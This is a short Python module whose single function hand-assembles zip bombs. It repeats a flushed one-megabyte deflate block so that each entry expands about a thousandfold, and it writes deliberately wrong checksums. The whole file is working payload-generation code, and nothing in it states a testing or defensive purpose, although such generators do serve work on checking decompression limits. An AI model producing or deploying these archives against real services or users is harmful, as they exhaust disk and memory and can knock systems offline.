"""Zips that unpack to a thousand times their size, made without packing as much."""

import struct
import zlib
from collections.abc import Mapping

_MEGABYTE = 1_000_000


def bomb(parts: Mapping[str, int]) -> bytes:
    """Return a zip with parts of so many megabytes of blanks, fewer than 4000 each; their checksums are wrong."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush nothing refers to what stood before, so that a block may stand any number of times.
    block = packer.compress(b" " * _MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush()
    body, directory = bytearray(), bytearray()
    for name, megabytes in parts.items():
        data = block * megabytes + end
        common = struct.pack("<5H3L2H", 20, 0, 8, 0, 33, 0, len(data), megabytes * _MEGABYTE, len(name), 0)
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<3H2L", 0, 0, 0, 0, len(body))
        directory += name.encode()
        body += b"PK\x03\x04" + common + name.encode() + data
    count = len(parts)
    tail = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + tail)
